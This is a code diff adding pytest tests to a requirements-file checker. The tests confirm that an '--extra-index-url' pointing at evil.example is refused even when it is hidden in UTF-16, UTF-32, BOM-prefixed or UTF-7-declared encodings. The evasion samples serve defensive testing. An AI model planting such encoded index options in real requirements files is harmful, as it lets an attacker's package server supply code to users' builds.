@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import codecs
 import time
 from pathlib import Path
 
@@ -93,6 +94,35 @@ def test_direct_references_are_refused_naming_the_line(tmp_path: Path, text: str
     assert caught.value.message.startswith(f"requirements.txt line {line} (`")
     assert "installs a package from a URL" in caught.value.message
     assert "commit its wheel" in caught.value.suggestions[0]
+
+
+EVIL_INDEX = "--extra-index-url https://evil.example/simple\n"
+#: EVIL_INDEX in UTF-7 with each dash written as base64 (``+AC0-``), as a decoder reads it
+EVIL_INDEX_UTF7 = b"+AC0-+AC0-extra+AC0-index+AC0-url https://evil.example/simple\n"
+
+
+@pytest.mark.parametrize("encoded", [
+    # Windows PowerShell's `pip freeze > requirements.txt` writes UTF-16 with a BOM
+    ("numpy\r\n" + EVIL_INDEX).encode("utf-16"),
+    codecs.BOM_UTF16_BE + ("numpy\n" + EVIL_INDEX).encode("utf-16-be"),
+    codecs.BOM_UTF8 + EVIL_INDEX.encode(),
+    ("numpy\n" + EVIL_INDEX).encode("utf-32"),
+    # pip decodes a file by a coding declaration in its first two lines (PEP 263)
+    b"# -*- coding: utf-7 -*-\n" + EVIL_INDEX_UTF7,
+    b"numpy\n# vim: set fileencoding=utf-7 :\n" + EVIL_INDEX_UTF7,
+])
+def test_index_options_are_refused_in_every_encoding_an_installer_reads(
+        tmp_path: Path, encoded: bytes) -> None:
+    """pip and uv decode a requirements file by its byte-order mark (pip also by a coding
+    declaration): the farm reads it as they do, or an index option would pass unseen."""
+    (tmp_path / "requirements.txt").write_bytes(encoded)
+    with pytest.raises(BuildFailure, match=r"^requirements.txt line \d+ \(`--extra-index-url"):
+        check_requirements_file(tmp_path, "requirements.txt")
+
+
+def test_a_utf16_requirements_file_without_index_options_passes(tmp_path: Path) -> None:
+    (tmp_path / "requirements.txt").write_bytes("numpy==1.26\r\npandas\r\n".encode("utf-16"))
+    check_requirements_file(tmp_path, "requirements.txt")
 
 
 def test_files_pulled_in_are_read_the_same_way(tmp_path: Path) -> None:
